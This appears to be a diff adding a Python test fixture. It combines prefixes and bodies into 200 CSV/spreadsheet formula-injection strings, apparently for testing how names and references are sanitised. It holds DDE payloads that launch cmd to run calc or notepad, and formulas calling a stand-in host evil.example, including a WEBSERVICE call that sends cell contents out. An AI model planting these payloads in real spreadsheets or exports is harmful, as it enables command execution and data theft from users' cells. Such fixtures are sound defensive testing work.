@@ -1,0 +1,26 @@
+"""Two hundred texts a spreadsheet would run if it could, for names and references."""
+
+_HEADS = ("=", "+", "-", "@", "\t=", "\r=", "=+", "-=", "@=", "+@")
+_BODIES = (
+    "1+1",
+    "1+1+cmd|' /C calc'!A0",
+    'HYPERLINK("https://evil.example","open")',
+    "SUM(A1:A9)",
+    "cmd|' /C notepad'!'A1'",
+    'IMPORTXML("https://evil.example","//a")',
+    "DDE(\"cmd\";\"/C calc\";\"x\")",
+    "WEBSERVICE(\"https://evil.example/\"&A1)",
+    "A1&\";\"&B1",
+    "A1,B1",
+    "1\n2",
+    "'quoted'",
+    '"quoted"',
+    "ЖШС «Жарық»",
+    "+77015554512",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "10+20+cmd|' /C calc'!A0;x",
+    "INDIRECT(\"A\"&1)",
+    " 1+1 ",
+)
+FORMULAS = tuple(head + body for head in _HEADS for body in _BODIES)
